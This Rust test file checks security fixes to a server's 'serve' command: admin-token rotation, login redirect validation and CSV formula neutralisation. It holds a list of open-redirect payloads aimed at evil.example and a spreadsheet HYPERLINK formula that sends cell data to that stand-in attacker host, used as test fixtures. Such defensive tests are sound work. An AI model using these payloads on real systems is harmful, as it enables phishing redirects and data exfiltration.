//! Security hardening of `serve` (issue 17), one regression test per finding, each asserting
//! what a user or an attacker sees: status codes, headers, bytes on disk.

use crate::access::login;
use crate::common::{assert_problem, TestServer};

/// Item 1: rotating the admin token from another process (a second `Store` on the same data
/// dir, as `serve --print-token` opens) revokes the old token and every session at once,
/// even after both were just used successfully.
#[tokio::test]
async fn rotating_the_admin_token_revokes_the_old_token_and_every_session() {
    let s = TestServer::start().await;
    let cookie = login(&s).await;
    let before = s.get("/api/v1/credentials").send().await.unwrap();
    assert_eq!(
        before.status(),
        200,
        "the old token works before the rotation"
    );
    let page = s
        .http
        .get(s.url("/credentials"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), 200, "the session works before the rotation");

    let other_process = store::Store::open(s.store.data_dir()).unwrap();
    let new = server::auth::regenerate_admin_token(&other_process).unwrap();
    let new = secrecy::ExposeSecret::expose_secret(&new).to_string();

    let old = s.get("/api/v1/credentials").send().await.unwrap();
    assert_problem(old, 401, "unauthorized").await;
    let login_with_old = s
        .http
        .post(s.url("/login"))
        .header("origin", s.base.clone())
        .form(&[("token", s.token.as_str()), ("next", "/credentials")])
        .send()
        .await
        .unwrap();
    assert_eq!(
        login_with_old.status(),
        401,
        "no new session with the old token"
    );
    assert!(login_with_old.headers().get("set-cookie").is_none());
    let session_api = s
        .http
        .get(s.url("/api/v1/credentials"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_problem(session_api, 401, "unauthorized").await;
    let session_page = s
        .http
        .get(s.url("/credentials"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(
        session_page.status(),
        303,
        "the session ends: back to the login page"
    );
    assert_eq!(
        session_page.headers()["location"],
        "/login?next=%2Fcredentials"
    );
    let fresh = s
        .http
        .get(s.url("/api/v1/credentials"))
        .bearer_auth(&new)
        .send()
        .await
        .unwrap();
    assert_eq!(fresh.status(), 200, "the new token works at once");
}

/// Item 3: after login only a path on this server is followed. Browsers resolve
/// `/\evil.example` and `/<TAB>/evil.example` off-site, so those (and their percent-encoded
/// spellings) go to `/`; the login page does not carry them either.
#[tokio::test]
async fn login_redirects_only_to_paths_on_this_server() {
    let s = TestServer::start().await;
    for bad in [
        "/\\evil.example",
        "/\t/evil.example",
        "/%09/evil.example",
        "/%5Cevil.example",
        "/%2F/evil.example",
        "/\r\n/evil.example",
        "//evil.example",
        "https://evil.example/",
        "evil.example",
        "/\\/evil.example",
    ] {
        let response = s
            .http
            .post(s.url("/login"))
            .header("origin", s.base.clone())
            .form(&[("token", s.token.as_str()), ("next", bad)])
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 303, "{bad:?}");
        assert_eq!(response.headers()["location"], "/", "next={bad:?}");
        let page = s
            .http
            .get(s.url("/login"))
            .query(&[("next", bad)])
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(
            page.contains(r#"name="next" value="/""#),
            "the login page keeps no off-site next={bad:?}"
        );
    }
    let response = s
        .http
        .post(s.url("/login"))
        .header("origin", s.base.clone())
        .form(&[("token", s.token.as_str()), ("next", "/runs?source=crm")])
        .send()
        .await
        .unwrap();
    assert_eq!(response.headers()["location"], "/runs?source=crm");
}

/// Item 4: the results download never hands a spreadsheet a formula: a key such as
/// `=HYPERLINK(...)` comes back as `'=HYPERLINK(...)`, in files this version writes and in
/// results files an older version left in the data dir.
#[tokio::test]
async fn results_downloads_neutralise_cells_that_start_a_formula() {
    let sandbox = crate::common::sandbox().await;
    let s = TestServer::start().await;
    s.create_credential("Sandbox", &sandbox.token(), &sandbox.base_url())
        .await;
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"open")"#;
    let csv = format!(
        "externalId,email\n\"{}\",a@example.test\n",
        formula.replace('"', "\"\"")
    );
    let uploaded: serde_json::Value = s
        .post("/api/v1/destinations/uploads")
        .header("content-type", "text/csv")
        .body(csv)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let report: serde_json::Value = s
        .post("/api/v1/destinations/push")
        .json(
            &serde_json::json!({"credential": "Sandbox", "object": "contacts",
            "key": "externalId", "upload": uploaded["upload"], "dry_run": true}),
        )
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let download = s
        .get(report["results_url"].as_str().unwrap())
        .send()
        .await
        .unwrap();
    assert_eq!(download.status(), 200);
    let text = download.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[1], format!("'{formula}"), "{text}");

    // A results file written before this fix holds the formula raw.
    let old_run = "run_20240101T000000_0000abcd";
    let dir = s.store.data_dir().join("results");
    std::fs::write(
        dir.join(format!("{old_run}.csv")),
        "row,key,outcome,drift_id,reason,input\n1,=1+2,rejected,,@bad,{}\n2,ok,created,-5,fine,{}\n",
    )
    .unwrap();
    let text = s
        .get(&format!("/api/v1/runs/{old_run}/results"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(
        text,
        "row,key,outcome,drift_id,reason,input\n1,'=1+2,rejected,,'@bad,{}\n2,ok,created,'-5,fine,{}\n"
    );
}
